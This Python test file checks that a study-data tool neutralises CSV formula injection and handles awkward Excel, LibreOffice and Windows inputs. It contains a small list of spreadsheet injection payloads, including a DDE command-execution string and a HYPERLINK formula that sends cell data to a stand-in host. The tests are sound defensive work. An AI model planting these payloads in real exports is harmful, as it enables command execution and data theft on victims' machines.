"""Input round 64 (helper inputs64): a study folder's files as Excel, LibreOffice and Windows give them.

What a red team found on main's head (each test below failed there, unless named ``guard``):

1. A text cell holding a formula after a ``;`` (``Barnet;=cmd|' /C calc'!A0;x``), a tab or a line break was written
   to every CSV output with no apostrophe: Excel set to a ``;`` list separator (most of Europe, where the decimal
   sign is a comma) opens a CSV file splitting each line at every ``;``, whatever the quotes around it (a quote
   opens a quoted cell only at a cell's start), and runs the piece as a formula.  Each such piece is now written
   behind an apostrophe, as the start of a cell is (the OWASP advice), and read back without it.  Checked by reading
   the files as that Excel does (a reader written here), and as a CSV reader does (the text given back).
2. A number formatted as a percentage in a workbook (typed ``45%``: Excel keeps 0.45 and shows 45%) was read as 0.45
   in a number column without a word, where a CSV file saved from the sheet holds ``45%`` and is refused.  It is
   refused in a number column, naming sheet, row and column, and read as ``45%`` in a text column, as the CSV file.
3. A title row above a sheet's header, merged over its columns, made the table "the sheet is empty".  It is the one
   problem a CSV file's title row is: delete row 1.
4. A file locked by the program that has it open (Excel and Word lock the files they open on Windows: "permission
   denied") or moved or deleted between being found and being read raised ``PermissionError`` or
   ``FileNotFoundError`` out of ``load_study`` (the command line said "choose a folder you can write to", of a file
   it was reading).  Each is a problem of its file, listed with the study's others.
5. A table of 100,000 rows of five columns in a workbook (500,005 cells) was refused as reaching too far; it is read.
   A sheet past the limit (a million cells) is refused saying to save it as a CSV file, which is read up to 50 MiB.
6. A very hidden sheet was told to be unhidden with Excel's Unhide, which does not list it.
7. ``3.000`` in a whole-number column (3000 as most of Europe writes it) was read as 3, with a warning about a decimal
   point; it is refused, naming both readings.

Values, rows and columns are drawn from seeds the project has not used (6401-6403 and those plus 10 to 70).
"""

from __future__ import annotations

import builtins
import csv
import errno
import importlib.util
import io
import os
import shutil
import warnings
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl.utils import get_column_letter
from test_study_workbook import edit, refused, to_workbook

from hostile._util import cli_here
from impact import load_study
from impact._tabular import restore_cell, write_table
from impact.errors import ValidationError
from impact.report import Table
from impact.report._xlsx import table_csv
from impact.schema import TABLES
from impact.study import Study

SEEDS = [6401, 6402, 6403]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --------------------------------------------------------------------------- 1. a formula after a ';' in a CSV output


def excel_semicolon_cells(text: str) -> list[str]:
    """The cells of CSV ``text`` as Excel reads it where its list separator is ``;``: each line split at every ``;``
    outside a quoted cell, a quote opening one only as a cell's first character (``""`` in it is a quote; the quote
    closing it ends the quoting, what follows is read on into the cell), a line break ending the line likewise."""
    cells, cell, quoted, start, k = [], "", False, True, 0
    while k < len(text):
        ch = text[k]
        if quoted:
            if ch == '"' and text[k + 1: k + 2] == '"':
                cell, k = cell + '"', k + 2
                continue
            if ch == '"':
                quoted = False
            else:
                cell += ch
            k += 1
            continue
        if start and ch == '"':
            quoted, start = True, False
        elif ch in ";\r\n":
            cells.append(cell)
            cell, start = "", True
        else:
            cell, start = cell + ch, False
        k += 1
    return [*cells, cell]


def run_as_formulas(text: str) -> list[str]:
    """The cells of ``text`` that a ``;``-separated Excel runs as formulas (numbers, negative ones too, are data)."""
    def number(c: str) -> bool:
        try:
            float(c)
        except ValueError:
            return False
        return True

    return [c for c in excel_semicolon_cells(text) if c.lstrip(" ").startswith(FORMULA_START) and not number(c)]


_PAYLOADS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
             '=HYPERLINK("http://x.example/?"&A1,"Barnet")', '"=1+1', " =1+1", "'=1+1", "=A1"]
_WORDS = ["Barnet", "Torbay", "staff morale", "the LSCB", "caseloads", "£1,000", "-"]


def _hostile_text(rng: np.random.Generator, separators: list[str]) -> str:
    """Words with payloads after separators drawn by ``rng``."""
    parts = [str(rng.choice(_WORDS))]
    for _ in range(int(rng.integers(1, 4))):
        parts += [str(rng.choice(separators)), str(rng.choice(_PAYLOADS))]
        if rng.random() < 0.5:
            parts += [str(rng.choice(separators)), str(rng.choice(_WORDS))]
    return "".join(parts)


@pytest.mark.parametrize("seed", SEEDS)
def test_a_csv_output_holds_no_cell_a_semicolon_excel_runs_and_reads_back_as_written(seed, tmp_path):
    rng = np.random.default_rng(seed)
    texts = [_hostile_text(rng, [";", "; ", "\t", "\n", "\r\n"]) for _ in range(12)]
    # the text in a line's second cell, as a name is: a quote there opens no quoted cell for a ';' Excel
    data = pd.DataFrame({"unit": [f"P{k}" for k in range(len(texts))], "text": texts,
                         "n": rng.integers(-5, 5, size=len(texts))})
    path = write_table(data, tmp_path / "coded.csv")
    text = path.read_text(encoding="utf-8")
    assert run_as_formulas(text) == []
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert [restore_cell(r[1]) for r in rows[1:]] == texts
    assert [int(r[2]) for r in rows[1:]] == data["n"].tolist()  # numbers, negative ones too, stay numbers


@pytest.mark.parametrize("seed", SEEDS)
def test_a_report_table_csv_holds_no_cell_a_semicolon_excel_runs(seed):
    rng = np.random.default_rng(seed + 10)
    texts = [_hostile_text(rng, [";", "\t", "\n"]) for _ in range(8)]
    frame = pd.DataFrame({"n_councils": range(8), "quote": texts})
    text = table_csv(Table("t", frame, "T")).decode("utf-8-sig")
    assert run_as_formulas(text) == []
    assert [restore_cell(r[1]) for r in list(csv.reader(io.StringIO(text, newline="")))[1:]] == texts


@pytest.mark.parametrize("seed", SEEDS)
def test_study_save_writes_a_name_with_a_formula_after_a_semicolon_safely_and_load_gives_it_back(seed, tiny_study,
                                                                                              tmp_path):
    rng = np.random.default_rng(seed + 20)
    tables = {name: tiny_study.table(name) for name in TABLES}
    councils = tables["councils"] = tables["councils"].copy()
    councils.loc[int(rng.integers(len(councils))), "name"] = _hostile_text(rng, [";", "; "])[:100]
    interviews = tables["interviews"]
    texts = dict(zip(interviews["transcript"], tiny_study.transcripts(), strict=True))
    folder = tmp_path / "study"
    Study(tiny_study.meta, tables, texts).save(folder, validate=False)
    assert run_as_formulas((folder / "councils.csv").read_text(encoding="utf-8")) == []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a formula as written is told; read as written
        loaded = load_study(folder, validate=False)
    assert loaded.councils["name"].tolist() == councils["name"].tolist()


def test_guard_a_formula_at_a_cells_start_is_neutralised_as_before(tmp_path):
    path = write_table(pd.DataFrame({"unit": ["=1+1", "'=1+1", "plain", "-x"], "n": [-1, 2, 3, 4]}), tmp_path / "t.csv")
    assert path.read_text(encoding="utf-8").splitlines() == ["unit,n", "'=1+1,-1", "''=1+1,2", "plain,3", "'-x,4"]


# --------------------------------------------------------------------------- 2. a number shown as a percentage


def _letter(folder: Path, sheet: str, column: str) -> str:
    wb = openpyxl.load_workbook(folder / "study.xlsx", read_only=True)
    header = [c.value for c in next(wb[sheet].iter_rows(max_row=1))]
    wb.close()
    return get_column_letter(header.index(column) + 1)


_NUMBER_CELLS = [("survey_responses", "value"), ("reviews", "n_recommendations")]


@pytest.mark.parametrize("seed", SEEDS)
def test_a_number_formatted_as_a_percentage_is_refused_in_a_number_column_on_its_cell(seed, study_dir):
    rng = np.random.default_rng(seed + 30)
    to_workbook(study_dir)
    sheet, column = _NUMBER_CELLS[int(rng.integers(len(_NUMBER_CELLS)))]
    pct = int(rng.integers(1, 100))
    fmt = str(rng.choice(["0%", "0.0%", "0.00%"]))
    letter = _letter(study_dir, sheet, column)
    row = int(rng.integers(2, 4))

    def change(wb):
        wb[sheet][f"{letter}{row}"].value = pct / 100
        wb[sheet][f"{letter}{row}"].number_format = fmt

    edit(study_dir / "study.xlsx", change)
    problems = refused(study_dir)
    mine = [p for p in problems if p.startswith(f"study.xlsx (sheet '{sheet}'):{row}:{letter} ({column}):")]
    assert mine == [f"study.xlsx (sheet '{sheet}'):{row}:{letter} ({column}): '{pct}%' - expected a number, not a "
                    f"percentage (the cell holds {pct / 100!r}, formatted to show {pct}%; a CSV file saved from the "
                    f"sheet would hold {pct}%): format the cell as a number (General) and enter the value in the "
                    "unit the column describes"], problems


@pytest.mark.parametrize("seed", SEEDS)
def test_a_decimal_value_shown_as_a_percentage_is_not_read_as_its_fraction(seed, study_dir):
    # on main the indicator's value was read as 0.37 without a word: the sheet shows 37%
    rng = np.random.default_rng(seed + 40)
    to_workbook(study_dir)
    pct = int(rng.integers(1, 100))

    def change(wb):
        ws = wb.create_sheet("indicators")
        ws.append(["council_id", "period", "measure", "value", "flag"])
        ws.append([301, pd.Timestamp("2012-03-31").to_pydatetime(), "cp_rate", pct / 100, None])
        ws["D2"].number_format = "0%"

    edit(study_dir / "study.xlsx", change)
    assert [p for p in refused(study_dir) if "indicators" in p] == [
        f"study.xlsx (sheet 'indicators'):2:D (value): '{pct}%' - expected a number, not a percentage (the cell "
        f"holds {pct / 100!r}, formatted to show {pct}%; a CSV file saved from the sheet would hold {pct}%): format "
        "the cell as a number (General) and enter the value in the unit the column describes"]


def test_a_percentage_in_a_text_column_is_read_as_the_csv_file_holds_it(study_dir, tiny_study):
    to_workbook(study_dir)

    def change(wb):
        wb["councils"]["B3"].value = 0.125
        wb["councils"]["B3"].number_format = "0.0%"

    edit(study_dir / "study.xlsx", change)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        names = load_study(study_dir, validate=False).councils["name"].tolist()
    assert names == ["Barking and Dagenham", "12.5%", "Torbay"]


READERS = all(importlib.util.find_spec(m) is not None for m in ("python_calamine", "olefile"))
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(not READERS or SOFFICE is None, reason="needs python-calamine, olefile and LibreOffice")
def test_an_ods_percentage_is_refused_as_an_xlsx_one(study_dir, tmp_path):
    from test_inputs_round63 import convert

    rng = np.random.default_rng(6411)
    to_workbook(study_dir)
    pct = int(rng.integers(1, 100))
    letter = _letter(study_dir, "survey_responses", "value")

    def change(wb):
        wb["survey_responses"][f"{letter}3"].value = pct / 100
        wb["survey_responses"][f"{letter}3"].number_format = "0%"

    edit(study_dir / "study.xlsx", change)
    (ods,) = convert([study_dir / "study.xlsx"], "ods", tmp_path / "ods", tmp_path / "profile")
    (study_dir / "study.xlsx").unlink()
    shutil.copy(ods, study_dir / "study.ods")
    assert [p for p in refused(study_dir) if "'survey_responses'):3" in p] == [
        f"study.ods (sheet 'survey_responses'):3:{letter} (value): '{pct}%' - expected a number, not a percentage "
        f"(the cell holds {pct / 100!r}, formatted to show {pct}%; a CSV file saved from the sheet would hold "
        f"{pct}%): format the cell as a number (General) and enter the value in the unit the column describes"]


# --------------------------------------------------------------------------- 3. a merged title above the header


@pytest.mark.parametrize("seed", SEEDS)
def test_a_merged_title_above_a_sheets_header_is_the_one_problem_of_a_title_row(seed, study_dir):
    rng = np.random.default_rng(seed + 50)
    to_workbook(study_dir)
    sheet = str(rng.choice(["councils", "reviews", "participants"]))
    above = int(rng.integers(1, 3))
    title = str(rng.choice(["Councils in the study", "Peer reviews 2011-12", "Source: LGA"]))

    def change(wb):
        ws = wb[sheet]
        width = ws.max_column
        ws.insert_rows(1, above)
        ws["A1"].value = title
        ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=int(rng.integers(2, width + 1)))

    edit(study_dir / "study.xlsx", change)
    rows = "row 1" if above == 1 else f"rows 1 to {above}"
    assert [p for p in refused(study_dir) if f"'{sheet}')" in p] == [
        f"study.xlsx (sheet '{sheet}'):1: '{title}' - expected the header row at the top (row {above + 1} holds the "
        f"column names, below {above} row{'s' if above > 1 else ''} of another kind, a title or a note?: delete "
        f"{rows})"]


# --------------------------------------------------------------------------- 4. a file locked or gone as it is read


def _failing_open(monkeypatch, names: set[str], code: int) -> None:
    """``open`` raising the error ``code`` for a file whose name is one of ``names``, as Windows does for a file
    another program holds locked (EACCES) or as a file moved away after it was listed (ENOENT)."""
    real = builtins.open

    def fake(file, *args, **kwargs):
        if isinstance(file, (str, os.PathLike)) and Path(os.fspath(file)).name in names:
            raise (PermissionError if code == errno.EACCES else FileNotFoundError)(code, os.strerror(code),
                                                                                   os.fspath(file))
        return real(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", fake)
    monkeypatch.setattr(io, "open", fake)


_LOCKED = ("permission denied: a program that has it open may lock it, as Excel and Word do on Windows - close it "
           "there, or ask for permission to read it, and try again")
_GONE = "it is gone: it was there when it was found, and was moved, renamed or deleted since - put it back and try again"


@pytest.mark.parametrize(("code", "why"), [(errno.EACCES, _LOCKED), (errno.ENOENT, _GONE)])
@pytest.mark.parametrize("seed", SEEDS)
def test_files_that_cannot_be_read_are_each_a_problem_of_their_file(seed, code, why, study_dir, monkeypatch):
    rng = np.random.default_rng(seed + 60)
    tables = sorted(str(t) for t in rng.choice(["councils.csv", "reviews.csv", "participants.csv",
                                                "survey_responses.csv"], size=2, replace=False))
    transcript = sorted((study_dir / "transcripts").rglob("*.txt"))[int(rng.integers(9))]
    _failing_open(monkeypatch, {*tables, transcript.name}, code)
    with pytest.raises(ValidationError) as info:
        load_study(study_dir)
    problems = [str(p) for p in info.value.problems]
    for table in tables:
        assert f"{table}: expected a readable CSV file (cannot be read ({why}))" in problems, problems
    rel = transcript.relative_to(study_dir / "transcripts").as_posix()
    assert any(p.endswith(f"'{rel}' - expected a readable transcript (transcripts/{rel}: cannot be read ({why}))")
               for p in problems), problems


def test_a_locked_workbook_is_a_problem_and_the_command_line_says_so_exit_2(study_dir, monkeypatch):
    to_workbook(study_dir)
    _failing_open(monkeypatch, {"study.xlsx"}, errno.EACCES)
    assert refused(study_dir) == [f"study.xlsx: expected a readable .xlsx workbook (cannot be read ({_LOCKED}))"]
    done = cli_here("validate", str(study_dir), cwd=study_dir.parent)
    assert done.returncode == 2
    assert f"study.xlsx: expected a readable .xlsx workbook (cannot be read ({_LOCKED}))" in done.stdout + done.stderr
    assert "choose a folder you can write to" not in done.stdout + done.stderr


# --------------------------------------------------------------------------- 5. a large table in a workbook


def test_a_sheet_past_a_million_cells_is_refused_saying_to_save_it_as_csv(study_dir):
    to_workbook(study_dir)
    edit(study_dir / "study.xlsx", lambda wb: setattr(wb["councils"].cell(row=250_000, column=5), "number_format",
                                                      "0.00"))
    (p,) = refused(study_dir)
    assert p.startswith("study.xlsx: expected a readable .xlsx workbook (study.xlsx (sheet 'councils'): ")
    assert p.endswith("expected at most 500,000 rows, 256 columns and 1,000,000 cells (a value or a format far "
                      "beyond the data makes a sheet reach so far: delete the rows and columns past the data; or, a "
                      "table of more cells than that, save the sheet as \"CSV UTF-8 (comma delimited)\" named as its "
                      "table, which is read up to 50 MiB))"), p


# --------------------------------------------------------------------------- 6. a very hidden sheet


def test_a_very_hidden_sheet_is_told_how_to_show_it(study_dir):
    to_workbook(study_dir)
    edit(study_dir / "study.xlsx", lambda wb: setattr(wb["reviews"], "sheet_state", "veryHidden"))
    told = [str(p) for p in load_study(study_dir).load_problems if "sheet 'reviews'" in p.file]
    assert told == ["warning: study.xlsx (sheet 'reviews'): expected a sheet that is shown (it is hidden, and its 3 "
                    "rows of data are read as a shown sheet's are: unhide it, to see what it holds: it is very hidden, "
                    "which Excel's Unhide does not list - in Excel's Visual Basic editor (Alt+F11) set the sheet's "
                    "Visible property to -1 - xlSheetVisible, or in LibreOffice choose Sheet > Show Sheet)"]


# --------------------------------------------------------------------------- 7. points between thousands


@pytest.mark.parametrize("seed", SEEDS)
def test_a_whole_number_with_points_between_thousands_is_refused_not_read_as_its_first_group(seed, study_dir):
    # '3.000' is 3000 as most of Europe writes it; on main it was read as 3, with a warning about a decimal point
    rng = np.random.default_rng(seed + 70)
    thousands = int(rng.integers(1, 10))
    path = study_dir / "reviews.csv"
    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))
    row = int(rng.integers(1, len(rows)))
    rows[row][rows[0].index("n_recommendations")] = f"{thousands}.000"
    path.write_text("".join(",".join(r) + "\n" for r in rows), encoding="utf-8")
    assert [p for p in refused(study_dir) if "n_recommendations" in p] == [
        f"reviews.csv:{row + 1}:n_recommendations: '{thousands}.000' - expected a whole number without points between "
        f"thousands ('{thousands}.000' is {thousands}000 written as most of Europe writes it, or {thousands} with a "
        f"decimal point: write '{thousands}000' or '{thousands}')"]
